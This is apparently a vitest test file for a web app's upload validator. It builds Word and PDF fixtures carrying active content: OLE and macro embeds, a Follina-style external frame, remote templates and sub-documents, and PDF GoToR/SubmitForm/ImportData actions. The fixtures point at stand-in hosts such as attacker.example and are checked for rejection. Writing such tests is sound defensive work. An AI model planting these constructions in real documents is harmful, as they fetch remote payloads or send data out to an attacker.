/**
 * Word files that pull in remote or embedded objects, and PDFs whose actions open other files or send or fetch form
 * data, are refused as active content on the routes that pass a file on (a chat attachment, a project's job
 * description, a CV), and nothing is stored: OLE objects and embedded macro-enabled packages, relationships of any
 * `*.rels` part pointing outside the package for an OLE object, a template, a frame or a sub-document (Follina), a
 * remote template in settings.xml.rels; PDF /GoToR, /SubmitForm and /ImportData actions. A CV with external hyperlinks
 * and pictures, and a PDF with a web link, still pass.
 */
import { PDFDocument, PDFName, PDFString } from '@cantoo/pdf-lib';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { TestApp } from '../helpers/app';
import { DOCX_CV_BODY, pdfOf, SG_ENGINEER, zipOf, zipPart } from '../helpers/cvs';
import {
  documentsWorld,
  fileRoutes,
  storedDocuments,
  type DocumentsWorld,
  type FileRoute,
} from '../helpers/documentRoutes';

let w: DocumentsWorld;
let t: TestApp;
let routes: FileRoute[];

beforeAll(async () => {
  w = await documentsWorld();
  t = w.t;
  const { chat, projectJd, cvImport } = fileRoutes(w);
  routes = [chat, projectJd, { ...cvImport, route: 'a CV' }];
}, 120_000);
afterAll(async () => {
  await t?.knex.destroy();
});

const R = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships';
const RELS = 'http://schemas.openxmlformats.org/package/2006/relationships';
const rels = (...items: string[]) =>
  `<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="${RELS}">${items.join('')}</Relationships>`;
const rel = (id: string, type: string, target: string, external = true) =>
  `<Relationship Id="${id}" Type="${R}/${type}" Target="${target}"${external ? ' TargetMode="External"' : ''}/>`;
const PNG = Buffer.from(
  'iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==',
  'base64',
);

/** A Word CV with a body, a picture and an external hyperlink, plus `extra` parts (a same-named part replaces one). */
function docxOf(extra: { name: string; data: string | Buffer }[] = []): Buffer {
  const parts = new Map<string, string | Buffer>([
    [
      '[Content_Types].xml',
      '<?xml version="1.0" encoding="UTF-8"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Default Extension="xml" ContentType="application/xml"/><Default Extension="png" ContentType="image/png"/><Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/></Types>',
    ],
    ['_rels/.rels', rels(rel('rId1', 'officeDocument', 'word/document.xml', false))],
    [
      'word/document.xml',
      `<?xml version="1.0" encoding="UTF-8"?><w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body>${DOCX_CV_BODY}</w:body></w:document>`,
    ],
    [
      'word/_rels/document.xml.rels',
      rels(
        rel('rId2', 'hyperlink', 'https://www.linkedin.com/in/jane-tan'),
        rel('rId3', 'image', 'media/image1.png', false),
      ),
    ],
    ['word/media/image1.png', PNG],
  ]);
  for (const e of extra) parts.set(e.name, e.data);
  return zipOf([...parts].map(([name, data]) => zipPart(name, data)));
}

type PdfAction = 'GoToR' | 'SubmitForm' | 'ImportData' | 'URI';

/** A readable CV PDF with an open action of `kind`; `objectStreams` hides its objects compressed. */
async function pdfWith(kind: PdfAction, objectStreams: boolean): Promise<Buffer> {
  const doc = await PDFDocument.load(await pdfOf(SG_ENGINEER));
  const { context, catalog } = doc;
  const action =
    kind === 'GoToR'
      ? { S: 'GoToR', F: PDFString.of('\\\\attacker.example\\share\\cv.pdf'), D: [0, 'Fit'] }
      : kind === 'URI'
        ? { S: 'URI', URI: PDFString.of('https://www.linkedin.com/in/jane-tan') }
        : { S: kind, F: PDFString.of('https://attacker.example/collect') };
  catalog.set(PDFName.of('OpenAction'), context.obj(action));
  return Buffer.from(await doc.save({ useObjectStreams: objectStreams }));
}

const stored = () => storedDocuments(w);

describe('A file that pulls in remote or embedded objects', () => {
  it('is refused as active content where a file is passed on, and not stored', async () => {
    const documentRels = (...items: string[]) => ({ name: 'word/_rels/document.xml.rels', data: rels(...items) });
    const hostile: [string, Buffer][] = [
      ['an OLE object', docxOf([{ name: 'word/embeddings/oleObject1.bin', data: Buffer.from('OLE bytes') }])],
      ['an embedded .docm', docxOf([{ name: 'word/embeddings/Document1.docm', data: Buffer.from('PK docm') }])],
      ['an embedded .xlsm', docxOf([{ name: 'word/embeddings/Book1.xlsm', data: Buffer.from('PK xlsm') }])],
      ['an external OLE object', docxOf([documentRels(rel('rId9', 'oleObject', 'http://attacker.example/x.doc'))])],
      ['a Follina frame', docxOf([documentRels(rel('rId9', 'frame', 'http://attacker.example/x.html!'))])],
      ['a remote sub-document', docxOf([documentRels(rel('rId9', 'subDocument', '\\\\attacker\\s\\x.docx'))])],
      [
        'a remote template in settings.xml.rels',
        docxOf([
          {
            name: 'word/_rels/settings.xml.rels',
            data: rels(rel('rId1', 'attachedTemplate', 'http://a.example/t.dotm')),
          },
        ]),
      ],
      [
        'an external object in another part, attributes reordered and escaped',
        docxOf([
          {
            name: 'word/_rels/header1.xml.rels',
            data: rels(
              `<Relationship TargetMode="&#69;xternal" Target="http://a.example/?a>b" Type="${R}/frame" Id="r1"/>`,
            ),
          },
        ]),
      ],
    ];
    for (const kind of ['GoToR', 'SubmitForm', 'ImportData'] as const) {
      hostile.push([`a /${kind} PDF`, await pdfWith(kind, false)]);
      hostile.push([`a /${kind} PDF in object streams`, await pdfWith(kind, true)]);
    }
    const before = await stored();
    for (const { route, field, post } of routes)
      for (const [what, file] of hostile) {
        const name = file.subarray(0, 4).toString('latin1') === '%PDF' ? 'Role.pdf' : 'Role.docx';
        const res = await post(file, name);
        expect(res.status, `${route}, ${what}: ${JSON.stringify(res.body)}`).toBe(400);
        expect(res.body.error.fields, `${route}, ${what}`).toEqual({ [field]: 'upload.errors.activeContent' });
      }
    expect(await stored()).toEqual(before);
  }, 240_000);

  it('is told apart from a CV with external links and pictures, which every route takes', async () => {
    await t.knex('rate_limit_hits').delete();
    const plain: [string, Buffer][] = [
      ['Role.docx', docxOf()],
      ['Role.pdf', await pdfWith('URI', false)],
    ];
    for (const { route, post } of routes)
      for (const [name, file] of plain) {
        const res = await post(file, name);
        expect(res.status, `${route}, ${name}: ${JSON.stringify(res.body)}`).toBeLessThan(300);
      }
  }, 240_000);
});
